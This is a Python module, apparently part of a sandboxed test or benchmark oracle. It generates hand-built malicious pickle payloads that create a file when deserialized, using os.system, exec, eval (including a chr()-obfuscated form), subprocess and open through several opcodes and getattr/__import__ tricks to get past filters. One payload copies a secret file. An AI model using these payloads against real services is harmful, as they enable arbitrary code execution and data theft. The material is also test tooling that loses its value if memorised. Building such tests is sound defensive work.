"""Pickles that make a file when they are read, written by hand, opcode by opcode: which callable and which opcode gets
past which filter? Used by oracles whose program restores objects. Nothing here is ever loaded outside the cell."""

from __future__ import annotations

from collections.abc import Iterator


def planting(path: str) -> Iterator[bytes]:
    """Pickles that make the file ``path``: by the shell, by code, by opening it; through the opcodes GLOBAL,
    STACK_GLOBAL and INST, and without naming what makes it."""
    command, code = f">{path}", f"open('{path}','w')"
    numbers = "+".join(f"chr({ord(letter)})" for letter in code)
    calls: list[tuple[str, str, tuple[str, ...]]] = [
        ("posix", "system", (command,)),
        ("os", "system", (command,)),
        ("builtins", "exec", (code,)),
        ("builtins", "eval", (code,)),
        ("builtins", "eval", (f"eval({numbers})",)),
        ("builtins", "open", (path, "w")),
        ("__builtin__", "eval", (code,)),
        ("__builtin__", "file", (path, "w")),
        ("io", "open", (path, "w")),
        ("_io", "FileIO", (path, "w")),
        ("subprocess", "getoutput", (command,)),
        ("codecs", "open", (path, "w")),
        ("logging", "FileHandler", (path,)),
        ("timeit", "timeit", (code,)),
        ("cProfile", "run", (code,)),
        ("sqlite3", "connect", (path,)),
        ("tarfile", "open", (path, "w")),
        ("shutil", "copyfile", ("/srv/data/secret.txt", path)),
    ]
    for module, name, arguments in calls:
        yield _global(module, name, arguments)
        yield _stack_global(module, name, arguments)
    for module, name, arguments in calls[:4]:
        yield _inst(module, name, arguments)
    for builtins in ("builtins", "__builtin__"):
        system = f"c{builtins}\ngetattr\n(c{builtins}\n__import__\n(Vos\ntRVsystem\ntR(V{command}\ntR.".encode()
        opened = f"c{builtins}\ngetattr\n(c{builtins}\n__import__\n(Vio\ntRVopen\ntR(V{path}\nVw\ntR.".encode()
        yield from (system, opened)
    yield b"\x80\x04}\x8c\x05theme" + _stack_global("posix", "system", (command,))[2:-1] + b"s."


def _global(module: str, name: str, arguments: tuple[str, ...]) -> bytes:
    return f"c{module}\n{name}\n({''.join(f'V{one}{chr(10)}' for one in arguments)}tR.".encode()


def _short(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + len(raw).to_bytes(4, "little") + raw


def _stack_global(module: str, name: str, arguments: tuple[str, ...]) -> bytes:
    return b"\x80\x04" + _short(module) + _short(name) + b"\x93(" + b"".join(map(_short, arguments)) + b"tR."


def _inst(module: str, name: str, arguments: tuple[str, ...]) -> bytes:
    return f"({''.join(f'V{one}{chr(10)}' for one in arguments)}i{module}\n{name}\n.".encode()
